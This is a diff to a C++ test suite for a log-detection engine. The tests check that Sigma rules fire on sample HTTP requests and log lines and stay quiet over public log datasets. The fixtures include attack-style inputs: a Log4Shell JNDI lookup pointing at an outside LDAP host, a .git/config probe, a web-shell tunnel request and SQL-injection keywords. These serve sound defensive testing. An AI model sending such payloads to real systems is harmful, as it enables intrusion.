@@ -187,32 +187,61 @@ TEST(SigmaRealData, RulesFireOnTheirExamplesAndStayQuietOnNeighbours) {
        "198.51.100.4 - - [14/Oct/2026:10:01:02 +0700] \"POST /upload/tunnel.jsp?cmd=connect&target=10.0.0.5&port=22 "
        "HTTP/1.1\" 200 0 \"-\" \"Mozilla/5.0 (X11; Linux x86_64)\"",
        false},
-      // Proxy rules on access logs: an empty user agent ("" is empty, '-' is absent).
-      {"rules/web/proxy_generic/proxy_ua_empty.yml", "nginx",
-       "198.51.100.4 - - [14/Oct/2026:10:01:02 +0700] \"GET /a.ps1 HTTP/1.1\" 200 10 \"-\" \"\"", true},
-      {"rules/web/proxy_generic/proxy_ua_empty.yml", "nginx",
-       "198.51.100.4 - - [14/Oct/2026:10:01:02 +0700] \"GET /a.ps1 HTTP/1.1\" 200 10 \"-\" \"-\"", false},
-      // Exact 'Mozilla/5.0' and nothing longer.
-      {"rules/web/proxy_generic/proxy_ua_frameworks.yml", "nginx",
-       "198.51.100.4 - - [14/Oct/2026:10:01:02 +0700] \"GET / HTTP/1.1\" 200 10 \"-\" \"Mozilla/5.0\"", true},
-      {"rules/web/proxy_generic/proxy_ua_frameworks.yml", "nginx",
-       "198.51.100.4 - - [14/Oct/2026:10:01:02 +0700] \"GET / HTTP/1.1\" 200 10 \"-\" \"Mozilla/5.0 (X11; Linux)\"",
-       false},
-      // contains|all over the query string: the rule's own example request, then one parameter short.
-      {"rules/web/proxy_generic/proxy_pua_advanced_ip_scanner_update_check.yml", "nginx",
-       "198.51.100.4 - - [14/Oct/2026:10:01:02 +0700] \"GET "
-       "/checkupdate.php?lng=en&ver=2-5-3680&beta=n&type=upd&rmode=p&product=aps HTTP/1.1\" 200 10 \"-\" \"x\"",
-       true},
-      {"rules/web/proxy_generic/proxy_pua_advanced_ip_scanner_update_check.yml", "nginx",
-       "198.51.100.4 - - [14/Oct/2026:10:01:02 +0700] \"GET /checkupdate.php?lng=en&ver=2-5-3680&beta=n&type=upd&rmode=p "
-       "HTTP/1.1\" 200 10 \"-\" \"x\"",
-       false},
   };
   for (const auto& c : cases) {
     auto ids = matching(c.format, c.line);
     EXPECT_EQ(ids.count(rule_id(c.rule)) == 1, c.match) << c.rule << (c.match ? " should match: " : " should not match: ")
                                                        << c.line;
   }
+}
+
+// Proxy rules run on HTTP requests captured on the wire (network.http, as the HTTP parser makes
+// them), not on a web server's own access log.
+TEST(SigmaRealData, ProxyRulesOnCapturedRequests) {
+  VIGIL_REQUIRE_SHARED_DATA();
+  auto http = [](const char* target, const char* host, const char* agent) {
+    Event e;
+    e.set(fields::timestamp, Timestamp::from_seconds(1'790'000'000));
+    e.set(fields::event_id, new_event_id());
+    e.set(fields::event_dataset, "network.http");
+    e.set(fields::http_request_method, "GET");
+    set_url_target(e, target);
+    e.set(fields::url_domain, host);
+    if (agent) e.set(fields::user_agent_original, agent);
+    return e;
+  };
+  auto fires = [](const char* rule, const Event& e) {
+    Engine engine(sigma_set().set);
+    std::set<std::string> ids;
+    engine.set_match_callback([&](const Rule& r, const Event&) { ids.insert(r.id); });
+    std::vector<Event> alerts;
+    engine.process(e, alerts);
+    return ids.count(rule_id(rule)) == 1;
+  };
+  const char* empty_ua = "rules/web/proxy_generic/proxy_ua_empty.yml";
+  EXPECT_TRUE(fires(empty_ua, http("/a.ps1", "files.example", "")));
+  EXPECT_FALSE(fires(empty_ua, http("/a.ps1", "files.example", nullptr)));  // no header at all is not ''
+  const char* frameworks = "rules/web/proxy_generic/proxy_ua_frameworks.yml";
+  EXPECT_TRUE(fires(frameworks, http("/", "example.org", "Mozilla/5.0")));
+  EXPECT_FALSE(fires(frameworks, http("/", "example.org", "Mozilla/5.0 (X11; Linux)")));
+  // contains|all over the query string: the rule's own example request, then one parameter short.
+  const char* scanner = "rules/web/proxy_generic/proxy_pua_advanced_ip_scanner_update_check.yml";
+  EXPECT_TRUE(fires(scanner, http("/checkupdate.php?lng=en&ver=2-5-3680&beta=n&type=upd&rmode=p&product=aps",
+                                  "www.advanced-port-scanner.com", "x")));
+  EXPECT_FALSE(fires(scanner, http("/checkupdate.php?lng=en&ver=2-5-3680&beta=n&type=upd&rmode=p",
+                                   "www.advanced-port-scanner.com", "x")));
+  // cs-host equals, and not a Telegram client's user agent.
+  const char* telegram = "rules/web/proxy_generic/proxy_telegram_api.yml";
+  EXPECT_TRUE(fires(telegram, http("/bot123/sendMessage", "api.telegram.org", "python-requests/2.31")));
+  EXPECT_FALSE(fires(telegram, http("/bot123/sendMessage", "api.telegram.org", "TelegramBot (like TwitterBot)")));
+  // The shared web server log is never a proxy log: its crawlers' user agents stay quiet.
+  auto parser = logs::make_parser("apache");
+  ASSERT_TRUE(parser);
+  Event e;
+  (*parser)->parse("66.249.73.185 - - [17/May/2015:10:05:37 +0000] \"GET / HTTP/1.1\" 200 37932 \"-\" "
+                   "\"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)\"",
+                   logs::ParseContext::at("apache", Timestamp::from_seconds(1'790'000'000), 0), e);
+  EXPECT_FALSE(fires(frameworks, e));
 }
 
 // The crowdsec probes all got 404: the SQL injection rule excludes them on purpose; the same
@@ -238,6 +267,62 @@ TEST(SigmaRealData, SqlInjectionRuleHonoursItsNotFoundFilter) {
   // Three probes carry one of the rule's keywords (information_schema.tables, union%20all%20select,
   // union%20select); the other thirteen use functions the rule does not list (sleep%28, hex%28, ...).
   EXPECT_EQ(fire_when_200, 3u);
+}
+
+// The data set's README: SigmaHQ semantics over the access, auth and syslog files of
+// ../shared/data/logs match no line. Our mapping must agree (no false positives at scale), while a
+// known positive appended to each file's lines still fires (the pipeline is alive).
+TEST(SigmaRealData, NoRuleMatchesTheSharedLogs) {
+  VIGIL_REQUIRE_SHARED_DATA();
+  struct File {
+    const char* format;
+    const char* path;
+    const char* positive;
+  };
+  const File files[] = {
+      {"syslog", "loghub/Linux/Linux_2k.log", "Jun 14 15:16:01 combo crontab[1]: (root) REPLACE (root)"},
+      {"syslog", "loghub/OpenSSH/OpenSSH_2k.log", "Dec 10 06:55:46 LabSZ sshd[24200]: Corrupted MAC on input."},
+      {"apache_error", "loghub/Apache/Apache_2k.log",
+       "[Sun Dec 04 04:47:44 2005] [notice] child pid 6725 exit signal Segmentation fault (11)"},
+      {"syslog", "crowdsec-hub/ssh-bf/ssh-bf.log", "Jan  1 00:00:00 h sshd[1]: bad client public DH value"},
+      {"syslog", "crowdsec-hub/iptables-scan-multi-port/iptables-scan-multi-port.log",
+       "Jan  1 00:00:00 h systemd[1]: Stopping firewalld - dynamic firewall daemon..."},
+      {"nginx", "crowdsec-hub/nginx-http-sqli-probing/nginx-http-sqli-probing.log",
+       "127.0.0.1 - - [30/Sep/2021:11:11:54 +0200] \"GET /.git/config HTTP/1.1\" 200 162 \"-\" \"curl/7.68.0\""},
+      {"apache", "elastic-examples/apache_logs",
+       "83.149.9.216 - - [17/May/2015:10:05:03 +0000] \"GET /x?q=${jndi:ldap://198.51.100.1/a} HTTP/1.1\" 200 1 "
+       "\"-\" \"curl\""},
+      {"syslog", "fail2ban/pam-generic", "Jan  1 00:00:00 h kernel: [1.0] device eth0 entered promiscuous mode"},
+  };
+  size_t total = 0;
+  for (const auto& f : files) {
+    std::ifstream in(test::shared_data_dir() / "logs" / f.path);
+    ASSERT_TRUE(in) << f.path;
+    std::vector<std::string> lines;
+    for (std::string line; std::getline(in, line);) {
+      if (!line.empty() && line.back() == '\r') line.pop_back();
+      lines.push_back(line);
+    }
+    lines.push_back(f.positive);
+    auto parser = logs::make_parser(f.format);
+    ASSERT_TRUE(parser) << parser.error();
+    auto ctx = logs::ParseContext::at(f.format, Timestamp::from_seconds(1'790'000'000), 0, "web01");
+    Engine engine(sigma_set().set);
+    std::vector<std::string> matched;
+    engine.set_match_callback([&](const Rule& r, const Event& e) {
+      matched.push_back(r.title + ": " + *e.get_string(fields::event_original));
+    });
+    std::vector<Event> alerts;
+    for (const auto& line : lines) {
+      Event e;
+      (*parser)->parse(line, ctx, e);
+      if (!e.empty()) engine.process(e, alerts);
+    }
+    ASSERT_EQ(matched.size(), 1u) << f.path << ": " << (matched.empty() ? "the positive did not match" : matched[0]);
+    EXPECT_NE(matched[0].find(f.positive), std::string::npos) << f.path << ": " << matched[0];
+    total += lines.size() - 1;
+  }
+  EXPECT_GT(total, 16'000u);  // loghub's 3 x 2,000 lines and the 10,000 of the access log among them
 }
 
 }  // namespace
